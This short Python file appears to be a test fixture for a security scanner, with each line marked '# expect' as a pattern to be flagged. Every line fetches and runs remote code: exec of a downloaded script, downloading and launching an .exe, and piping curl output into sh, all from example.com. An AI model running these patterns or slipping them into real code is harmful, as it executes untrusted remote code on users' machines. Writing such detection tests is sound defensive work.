import os
import urllib.request

import requests

exec(requests.get("https://example.com/x").text)  # expect
urllib.request.urlretrieve("https://example.com/x.exe", "x.exe")
os.startfile("x.exe")  # expect
os.system("curl https://example.com/x.sh | sh")  # expect
